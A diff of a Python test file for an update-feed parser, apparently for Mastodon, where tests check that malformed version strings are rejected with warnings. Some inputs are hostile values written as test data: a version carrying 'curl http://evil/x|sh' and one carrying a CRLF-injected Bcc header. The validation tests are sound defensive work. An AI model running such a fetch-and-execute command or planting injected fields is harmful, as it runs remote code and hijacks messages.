@@ -87,13 +87,12 @@ def test_1000_entries_are_read() -> None:
         pytest.param({"version": 4}, "[1].version is left out: a number, not a text", id="a number as the version"),
         pytest.param(
             {"version": "latest"},
-            "[1].version is left out: 'latest' is not a version: it does not start with three numbers",
+            "[1].version is left out: 'latest' is not a version: expected three numbers at the start",
             id="a version that cannot be ordered",
         ),
         pytest.param(
             {"version": "4.2.9\r\nBcc: all@social.example"},
-            "[1].version is left out: '4.2.9 Bcc: all@social.example' is not a version: "
-            "only printable ASCII is allowed",
+            "[1].version is left out: '4.2.9 Bcc: all@social.example' is not a version: expected printable ASCII",
             id="a version with line breaks",
         ),
         pytest.param(
@@ -110,6 +109,26 @@ def test_bad_version_skips_its_entry_alone(entry: object, warning: str) -> None:
         updates=(update("4.2.8"), update("4.2.10")), is_complete=False, warnings=(f"updatesAvailable{warning}",)
     )
     assert expected == feed
+
+
+@pytest.mark.parametrize("text", ["4.5.1; curl http://evil/x|sh #", "4.5.1 [click](http://evil.example)"])
+def test_version_with_other_text_is_left_out(text: str) -> None:
+    """Versions are shown in subjects and chats, so what follows the numbers is limited."""
+    feed = listed({"version": text, "urgent": True}, {"version": "4.5.2"})
+    assert feed.updates == (update("4.5.2"),)
+    assert len(feed.warnings) == 1
+    assert feed.warnings[0].startswith(f"updatesAvailable[0].version is left out: {text!r}")
+
+
+@pytest.mark.parametrize(
+    "entries", [[{"version": "16.1"}, {"version": "15.5-lts"}], ["4.5.20"], [{"version": "4.5.1 now"}]]
+)
+def test_answer_without_readable_entries_is_an_error(entries: list[object]) -> None:
+    """An update server that lists other versions than Mastodon's, such as kmyblue's own, answers nothing of use."""
+    with pytest.raises(CheckError, match="expected UPDATE_CHECK_URL=https://") as caught:
+        listed(*entries)
+    assert caught.value.cause is Cause.CONTENT
+    assert "updatesAvailable[0]" in caught.value.detail
 
 
 def test_duplicates_merge() -> None:
